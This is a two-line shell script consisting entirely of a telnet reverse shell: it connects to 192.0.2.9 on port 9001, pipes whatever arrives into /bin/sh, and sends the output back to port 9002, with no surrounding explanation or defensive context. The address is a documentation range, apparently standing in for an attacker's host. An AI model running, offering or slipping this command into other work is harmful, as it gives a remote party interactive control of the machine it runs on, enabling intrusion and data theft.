#!/bin/sh
telnet 192.0.2.9 9001 | /bin/sh | telnet 192.0.2.9 9002
